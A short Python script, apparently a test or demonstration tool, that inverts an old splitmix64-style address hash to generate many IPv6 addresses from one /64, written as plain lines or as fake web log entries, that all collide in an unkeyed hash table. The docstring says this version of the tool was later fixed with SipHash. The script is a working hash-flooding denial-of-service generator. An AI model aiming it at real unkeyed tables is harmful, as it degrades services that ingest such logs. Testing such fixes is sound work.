#!/usr/bin/env python3
"""Addresses from one IPv6 /64 crafted against a fixed table hash.

The attack on `hotline origins` before its tally was keyed (src/evidence/
origins.c before SipHash): the hash of an address was a fixed, invertible
function of its 16 bytes, so an attacker who chooses the 64-bit interface
ids of one /64 can invert it and give every address the same low 32 bits:
one slot for all of them, and linear probing turns n insertions into
n*n/2 probes. Writes N such addresses (default 160,000), one per line, in
the list format; with --web, as web access log lines instead.

Usage: crafted64.py [N] [--web]
"""
import sys

M = (1 << 64) - 1
C1 = 0x9e3779b97f4a7c15
C2 = 0xbf58476d1ce4e5b9
C3 = 0x94d049bb133111eb


def unxorshift(x, s):
    r = x
    for _ in range(64 // s + 1):
        r = x ^ (r >> s)
    return r


def unmix(h):
    """The inverse of the old addr_hash()'s finalizer (splitmix64's)."""
    x = unxorshift(h, 31)
    x = (x * pow(C3, -1, 1 << 64)) & M
    x = unxorshift(x, 27)
    x = (x * pow(C2, -1, 1 << 64)) & M
    return unxorshift(x, 30)


def main():
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    web = "--web" in sys.argv
    n = int(args[0]) if args else 160000
    # 2a01:4f8:c0c:1234::/64, not special-purpose; memcpy'd little-endian.
    net = bytes([0x2a, 0x01, 0x04, 0xf8, 0x0c, 0x0c, 0x12, 0x34])
    x0 = int.from_bytes(net, "little")
    inv1 = pow(C1, -1, 1 << 64)
    out = sys.stdout
    for i in range(1, n + 1):
        h = i << 32                      # the low 32 bits all zero
        y = ((unmix(h) ^ x0 ^ 128) * inv1) & M
        iid = y.to_bytes(8, "little")
        groups = [net[k:k + 2] for k in range(0, 8, 2)] + \
            [iid[k:k + 2] for k in range(0, 8, 2)]
        a = ":".join("%x" % int.from_bytes(g, "big") for g in groups)
        if web:
            out.write('%s - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" '
                      '404 0 "-" "-"\n' % a)
        else:
            out.write(a + "\n")


main()
